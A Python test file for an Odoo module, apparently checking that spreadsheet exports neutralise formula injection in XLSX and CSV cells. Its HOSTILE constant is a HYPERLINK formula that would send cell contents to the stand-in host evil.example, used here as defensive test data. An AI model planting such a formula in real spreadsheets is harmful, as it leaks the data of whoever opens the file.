import io

import openpyxl

from odoo.tests import BaseCase, tagged

from ..spreadsheet import csv_text, xlsx_workbook

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


@tagged("post_install", "-at_install")
class TestSpreadsheet(BaseCase):
    def test_user_text_stays_text_in_xlsx(self):
        buffer = io.BytesIO()
        book = xlsx_workbook(buffer)
        sheet = book.add_worksheet("s")
        sheet.write_row(0, 0, [HOSTILE, "+33 6 00", "https://example.org", 42])
        book.close()
        cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["s"][1]
        self.assertEqual(
            [c.value for c in cells][:3], [HOSTILE, "+33 6 00", "https://example.org"]
        )
        self.assertEqual([c.data_type for c in cells], ["s", "s", "s", "n"])
        self.assertIsNone(cells[2].hyperlink)

    def test_csv_cells_never_start_a_formula(self):
        for text in (HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
            self.assertEqual(csv_text(text), "'" + text)
        for value in ("École Pasteur", "a=b", 12, 3.5, None, ""):
            self.assertEqual(csv_text(value), value)
